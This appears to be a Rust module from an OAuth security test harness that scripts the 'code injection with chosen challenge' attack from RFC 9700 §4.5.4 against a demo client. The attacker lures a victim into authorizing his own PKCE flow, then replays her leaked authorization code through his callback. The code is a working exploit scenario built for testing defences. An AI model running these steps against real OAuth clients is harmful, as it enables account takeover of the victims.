//! `code-injection-chosen-challenge`: the victim's code, made for the attacker's own challenge.

use crate::attack;
use crate::attack::Cell::Succeeds;
use crate::attack::{Attack, Ending, Step};
use crate::scene::Scene;
use crate::support::missing;
use crate::who::Who::{Attacker, Client, Victim};
use kit::Verdict;
use kit::encoding::{encode, query_pairs};
use kit::ladder::Capability;

attack!(Attack {
    name: "code-injection-chosen-challenge",
    title: "The victim's code, made for the attacker's own challenge",
    story: "The attacker begins a flow and puts its authorization request behind a link: his state, his challenge. \
            The victim clicks it, so her code lies next to his challenge. Her client refuses the answer, but if he gets to see the code, it fits into his flow.",
    steps: &[
        Step(Attacker, Client, "starts a flow of his own and keeps its authorization request"),
        Step(Attacker, Victim, "a link to that very request"),
        Step(Victim, Client, "her browser delivers her code with his state: refused, and unused"),
        Step(Attacker, Client, "GET /callback with that code and his state, from his own browser"),
    ],
    section: "RFC 9700 §4.5.4",
    cells: &[(Capability::TokenEndpoint, Succeeds)],
    guards: &[],
    run: |scene| Box::pin(chosen_challenge(scene)),
});

async fn chosen_challenge(scene: Scene) -> Result<Ending, Verdict> {
    if !scene.has(Capability::TokenEndpoint) {
        return missing::token_endpoint(&scene).await;
    }
    scene.heading("The attacker prepares a link");
    let mut attacker = scene.attacker()?;
    let his_request = attacker.ask_client().await?;
    scene.aside("A stops here. His browser has a flow under way: C keeps his state, and the verifier of his challenge.");

    scene.heading("The victim clicks it");
    let mut victim = scene.victim()?;
    let redirect_uri = scene.target.demo.redirect_uri().to_owned();
    let hers = victim.authorize(&his_request, &redirect_uri).await?;
    let refused = victim.finish(&hers.url, &hers.code).await?;
    refused.answer.must_be_page(400)?;
    let row = scene.code_row(&hers.code).await?;
    refused.answer.must(row["used"] == false, "the code is still unused")?;
    scene.aside("The state was not made for V's browser, so C sends nothing to S. But the code is in V's address bar, in her history and in C's access log. A reads it there.");

    scene.heading("The attack");
    let pairs = query_pairs(&his_request);
    let state = pairs.iter().find(|pair| pair.0 == "state").map(|pair| pair.1.as_str());
    let url = scene.client(&format!(
        "/callback?code={}&state={}",
        encode(&hers.code),
        encode(state.unwrap_or_default())
    ))?;
    let received = attacker.finish(&url, &hers.code).await?;
    let both_his =
        "the client takes the code: verifier and challenge are both of the attacker's flow";
    received.answer.must(received.accepted, both_his)?;
    let owner = scene.owner_of(&hers.code).await?;
    Ok(Ending::succeeded(format!(
        "The client redeemed {owner}'s code in A's flow: verifier and challenge fit, for both are A's."
    )))
}
